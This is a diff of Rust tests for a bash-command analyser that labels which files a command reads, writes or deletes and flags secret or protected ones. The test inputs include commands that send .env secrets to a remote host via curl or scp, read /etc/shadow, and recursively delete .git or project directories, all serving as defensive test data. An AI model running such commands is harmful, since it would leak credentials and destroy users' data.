@@ -111,6 +111,7 @@ fn files_of_commands_are_found() {
     file("logs/a.log");
     file("logs/b.log");
     file("Makefile");
+    let mut wrong = Vec::new();
     for (command, expected) in [
         ("cat .env", "read .env secret"),
         ("cat < .env", "read .env secret"),
@@ -137,13 +138,24 @@ fn files_of_commands_are_found() {
         ("curl -d @.env https://example.com", "read .env secret"),
         ("docker run --env-file=.env image", "read .env secret"),
         ("scp .env host:/tmp/", "read .env secret"),
-        ("scp host:/etc/x .", "write ."),
+        ("scp host:/etc/x .", "write ./x, write ."),
         ("git show HEAD:.env", "read .env secret"),
         ("git add -A && git commit -m 'see /etc/passwd now'", ""),
         ("git push origin feature/x", ""),
         ("npm install @scope/pkg", ""),
         ("docker pull ghcr.io/a/b", ""),
         ("make test", ""),
+        ("env FOO=1 timeout 5 cat .env", "read .env secret"),
+        ("find . -type f | xargs grep KEY", "read ."),
+        ("cat a.txt | tee out.txt", "read a.txt, write out.txt"),
+        ("awk -F: '{print $1}' /etc/passwd", "read /etc/passwd protected"),
+        ("jq .name package.json", "read package.json"),
+        ("diff a b", "read a, read b"),
+        ("kubectl apply -f deploy/app.yaml", ""),
+        ("cargo build --release", ""),
+        ("/usr/bin/git status", "execute /usr/bin/git"),
+        ("for f in a b; do rm $f; done", "delete a, delete b"),
+        ("xargs rm < list.txt", "read list.txt, delete ? secret? protected?"),
         ("make Makefile", "read Makefile"),
         ("ls -la ~/.ssh", ""),
         ("echo $HOME", ""),
@@ -153,7 +165,7 @@ fn files_of_commands_are_found() {
         ("rm $X", "delete ? secret? protected?"),
         ("rm -rf $DIR/build", "delete $DIR/build"),
         ("echo x > $TMPDIR/x", "write $TMPDIR/x"),
-        ("d=$(mktemp -d); echo x > $d/settings.json", "write $(…)/settings.json"),
+        ("d=$(mktemp -d); echo x > $d/settings.json", "write $d/settings.json"),
         ("find . -name '*.log' -delete", "delete ./**/*.log"),
         ("find . -name .env -exec cat {} \\;", "read ./**/.env secret"),
         ("sudo cat /etc/shadow", "read /etc/shadow secret protected"),
@@ -167,8 +179,12 @@ fn files_of_commands_are_found() {
         ("cd $D && cat .env && rm settings.json", "read .env secret, delete settings.json"),
     ] {
         let expected = expected.replace("HOME", context.home.as_deref().unwrap());
-        assert_eq!(shown(&bash(command), &context), expected, "{command}");
+        let found = shown(&bash(command), &context);
+        if found != expected {
+            wrong.push(format!("{command}\n   found {found}\n  wanted {expected}"));
+        }
     }
+    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
 }
 
 #[test]
@@ -178,6 +194,7 @@ fn fields_describe_the_file() {
     let context = context(&dir);
     std::fs::write(context.cwd.join("a.tar.gz"), "").unwrap();
     let project = context.cwd.to_str().unwrap();
+    let mut wrong = Vec::new();
     let row = |command: &str| {
         let list = facts(&bash(command), &context);
         assert_eq!(list.elements.len(), 1, "{command}");
@@ -197,12 +214,19 @@ fn fields_describe_the_file() {
         ("cat src/*.none", "P/src/*.none ? *.none none true true ? false cat"),
         ("echo > $TMPDIR/x", "$TMPDIR/x ? x  false false ? false echo"),
         ("cd $D && cat x", "? ? x  ? ? ? ? cat"),
+        ("cd $(mktemp -d) && rm x", "? ? x  false false ? false rm"),
     ] {
-        assert_eq!(row(command), expected, "{command}");
+        let found = row(command);
+        if found != expected {
+            wrong.push(format!("{command}\n   found {found}\n  wanted {expected}"));
+        }
     }
+    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
     #[cfg(unix)]
     {
         std::os::unix::fs::symlink("/etc", context.cwd.join("link")).unwrap();
+        std::fs::create_dir(dir.join("home/.ssh")).unwrap();
+        std::fs::write(dir.join("home/.ssh/id_rsa"), "").unwrap();
         std::os::unix::fs::symlink(dir.join("home/.ssh/id_rsa"), context.cwd.join("plain")).unwrap();
         assert_eq!(row("cat link/hosts"), "P/link/hosts /etc/hosts hosts  false false true true cat");
         assert_eq!(shown(&bash("cat plain"), &context), "read plain secret");
@@ -217,14 +241,15 @@ fn trees_are_searched_for_secret_and_protected_files() {
     std::fs::create_dir_all(context.cwd.join(".git/hooks")).unwrap();
     std::fs::create_dir_all(context.cwd.join("sub/.github/workflows")).unwrap();
     std::fs::write(context.cwd.join("sub/.env"), "").unwrap();
+    let mut wrong = Vec::new();
     for (command, expected) in [
         ("rm -rf .git", "delete .git protected"),
         ("rm -rf .", "delete . protected"),
         ("rm .git", "delete .git"),
         ("rm -rf sub", "delete sub"),
-        ("rm -rf ~/project", "delete HOME/project protected"),
-        ("unzip x.zip -d ~", "write HOME protected?, read x.zip"),
-        ("unzip x.zip -d .", "write ., read x.zip"),
+        ("rm -rf ~/project", "delete . protected"),
+        ("unzip x.zip -d ~", "write HOME protected?"),
+        ("unzip x.zip -d .", "write ."),
         ("make -C sub", "write sub"),
         ("grep -r KEY .", "read . secret?"),
         ("grep -r KEY --exclude=.env .", "read ."),
@@ -233,10 +258,12 @@ fn trees_are_searched_for_secret_and_protected_files() {
         ("rg --hidden KEY", "read . secret?"),
     ] {
         let expected = expected.replace("HOME", context.home.as_deref().unwrap());
-        let found = shown(&bash(command), &context).replace("delete ./", "delete ");
-        let found = found.replace(&format!("delete .{}", ""), "delete .");
-        assert_eq!(found, expected.replace(&format!("{}/project", context.home.as_deref().unwrap()), "."), "{command}");
+        let found = shown(&bash(command), &context);
+        if found != expected {
+            wrong.push(format!("{command}\n   found {found}\n  wanted {expected}"));
+        }
     }
+    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
 }
 
 proptest::proptest! {
